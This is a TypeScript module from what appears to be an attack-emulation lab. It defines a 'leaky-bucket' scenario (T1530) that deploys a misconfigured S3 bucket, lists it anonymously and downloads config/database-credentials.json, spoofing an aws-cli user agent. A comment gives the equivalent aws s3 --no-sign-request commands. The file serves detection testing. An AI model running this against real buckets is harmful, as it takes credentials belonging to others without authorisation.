import type { Attack, Target } from './attack.ts';
import { fetchText } from './http-call.ts';
import { leakyBucketName } from './leaky-bucket-stack.ts';

const userAgent = 'aws-cli/2.31.0 md/awscrt#0.27.6 ua/2.1 os/linux lang/python#3.13.7 md/command#s3';
const wanted = 'config/database-credentials.json';

/** The guide: `aws s3 ls s3://… --no-sign-request`, then `aws s3 cp s3://…/config/database-credentials.json . --no-sign-request`. */
export const leakyBucket: Attack = {
  id: 'leaky-bucket',
  technique: 'T1530',
  title: 'Anonymous list and download from a leaky bucket',
  warmUp: (lab) => lab.deploy('leaky-bucket'),
  async detonate(lab) {
    await list(lab, '');
    await list(lab, 'config/');
    await fetchText('HEAD', object(lab), { 'user-agent': userAgent });
    const content = await fetchText('GET', object(lab), { 'user-agent': userAgent });
    return `listed s3://${leakyBucketName} and took ${wanted} (${content.length} bytes), without credentials`;
  },
  revert: (lab) => lab.remove('leaky-bucket'),
};

async function list(lab: Target, prefix: string): Promise<void> {
  const query = new URLSearchParams({ 'list-type': '2', prefix, delimiter: '/', 'encoding-type': 'url' });
  await fetchText('GET', `${lab.url}/${leakyBucketName}?${query}`, { 'user-agent': userAgent });
}

function object(lab: Target): string {
  return `${lab.url}/${leakyBucketName}/${wanted}`;
}
